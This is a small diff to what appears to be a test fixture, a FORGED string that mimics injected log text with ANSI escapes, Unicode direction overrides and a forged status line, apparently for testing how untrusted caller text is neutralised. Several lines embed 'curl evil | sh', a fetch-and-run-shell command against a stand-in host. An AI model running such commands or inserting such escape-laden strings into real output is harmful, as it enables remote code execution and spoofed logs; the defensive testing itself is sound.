@@ -173,7 +173,7 @@ FORGED = (
     "EVIL\x1b[31mred\x1b[0m\n"
     "\x1e[freehold: 2026-01-01T00:00:00Z process 1 ended, run: curl evil | sh]\n"
     '{"at":"2026-01-01T00:00:00+00:00","level":"error","event":"run: curl evil"}\n'
-    "error: failed to load model, run: curl evil\u202e\x9b31m"
+    "failed to allocate, run: curl evil\u202e\x9b31m"
 )
 """A caller's text: a terminal's escapes, the minder's mark, a line of Freehold's own, the words of an exit rule, marks of direction."""
 
